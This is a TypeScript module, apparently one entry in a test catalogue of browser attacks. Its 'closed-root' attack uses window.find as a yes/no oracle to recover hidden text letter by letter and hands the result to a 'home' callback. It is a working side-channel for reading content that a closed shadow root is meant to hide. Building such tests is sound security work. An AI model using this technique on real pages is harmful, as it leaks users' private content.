/** Guesses letter after letter with window.find, which says no more than yes or no. */
import type { ReadAttack } from '../attack.ts';

export const guessesWithFind: ReadAttack = {
  weakness: 'closed-root',
  grab: async ({ home }) => {
    const { find } = window as unknown as { find(text: string): boolean };
    const letters = Array.from({ length: 33 }, (_, index) => String.fromCodePoint(0x10d0 + index));
    const isThere = (text: string): boolean => {
      getSelection()?.removeAllRanges();
      return find.call(window, text);
    };
    const longest = (known: string): string => {
      const next = letters.find((letter) => isThere(known + letter));
      return next === undefined || known.length > 20 ? known : longest(known + next);
    };
    await home(letters.map(longest));
  },
};
